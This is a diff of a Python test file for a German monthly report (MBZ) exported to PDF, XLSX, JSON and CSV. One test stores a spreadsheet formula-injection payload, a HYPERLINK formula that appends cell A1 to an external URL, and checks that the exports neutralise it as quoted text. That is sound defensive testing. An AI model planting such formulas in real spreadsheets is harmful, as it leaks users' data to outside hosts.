@@ -179,21 +179,23 @@ def test_mbz_plan_against_actual_and_its_exports(steering, tmp_path):
     )
     text = "".join(page.extract_text() for page in PdfReader(tmp_path / "m.pdf").pages)
     assert "Integrationsquote" in text and "LZB-Bestand" in text
-    assert "Monatlicher Bericht zur Zielerreichung" in text  # the command speaks German
-    assert (tmp_path / "m.pdf").read_bytes().count(b"/Subtype /Form") + text.count("06/26") > 0
+    assert "Monatsbericht Zielerreichung (MBZ) 06/2026" in text  # the command speaks German
+    assert "Plan bis dato" in text  # the charts carry their plan line
 
     call_command(
         "report", "mbz", "--month", "2026-06", "--format", "xlsx", "--output", str(tmp_path / "m.xlsx")
     )
-    sheet = load_workbook(tmp_path / "m.xlsx").worksheets[0]
+    sheet = load_workbook(tmp_path / "m.xlsx").worksheets[1]  # after the title block
+    assert sheet["G1"].value == "Ist"
     values = {row[1]: row for row in sheet.iter_rows(min_row=2, values_only=True)}
-    assert values["Integrationsquote"][7] == 100.0  # a number, not text
-    assert values["LZB-Bestand"][7] == 2
+    assert values["Integrationsquote"][6] == 100.0  # a number, not text
+    assert values["LZB-Bestand"][6] == 2
 
     out = io.StringIO()
-    call_command("report", "mbz", "--month", "2026-06", stdout=out)
+    call_command("report", "mbz", "--month", "2026-06", "--format", "json", stdout=out)
     data = json.loads(out.getvalue())
-    assert data["key_figures"]["k2_integration_rate"]["percent"] == 100.0
+    figures = {row["code"]: row["value"] for row in data["tables"]["key_figures"]["rows"]}
+    assert figures["k2_integration_rate.percent"] == 100.0
 
 
 def test_import_refuses_a_referral_without_budget_and_writes_nothing(db):
@@ -357,12 +359,16 @@ def test_housing_costs_and_the_own_contact_rules_as_targets(steering):
 
 
 def test_an_mbz_comment_a_spreadsheet_would_run_stays_text_in_the_xlsx(steering):
+    from lotse.reports.definitions import mbz
+    from lotse.reports.definitions.base import Params
+    from lotse.reports.formats import to_csv, to_xlsx
     from lotse.targets import services
-    from lotse.targets.exports import mbz_xlsx
 
     target = mbz_report(MONTH).rows[0].target
     attack = '=HYPERLINK("http://example.org/?"&A1,"Details")'
     services.comment_save(user=None, target=target, month=MONTH, text=attack, version=None)
-    sheet = load_workbook(io.BytesIO(mbz_xlsx(mbz_report(MONTH)))).worksheets[0]
+    report = mbz.build(Params(as_of=date(2026, 6, 30), month=MONTH))
+    sheet = load_workbook(io.BytesIO(to_xlsx(report))).worksheets[1]
     (cell,) = [c for row in sheet.iter_rows() for c in row if c.value == attack]
     assert cell.data_type == "s" and cell.quotePrefix
+    assert f"'{attack}" in to_csv(report).decode("utf-8-sig").replace('""', '"')  # and in the CSV
